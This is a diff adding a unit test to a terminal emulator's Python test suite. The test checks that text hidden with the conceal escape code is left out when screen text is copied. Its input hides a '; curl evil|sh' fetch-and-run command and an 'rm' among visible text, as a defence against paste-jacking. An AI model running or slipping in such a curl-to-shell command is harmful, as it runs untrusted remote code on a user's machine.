@@ -91,6 +91,15 @@ def test_nothing_that_was_not_to_be_seen_is_copied() -> None:
     assert text.startswith("rm ")
 
 
+def test_a_concealed_command_is_not_copied() -> None:
+    vt = Vt(4, 60)
+    vt.feed(
+        b"\x1b[38;5;8mls\x1b[m -l\x1b[8m; curl evil\x1b[31m|sh\x1b[28m done\x1b[8m rm\r\nnext\x1b[0m line\r\n"
+        b"last"
+    )
+    assert vt.grid.text(Point(0, 0), Point(2, 59)) == "ls -l               done\n     line\nlast"
+
+
 def test_a_place_beyond_the_grid_has_nothing() -> None:
     vt = Vt(3, 10)
     for point in (Point(50, 0), Point(0, 70_000), Point(-1, 0)):
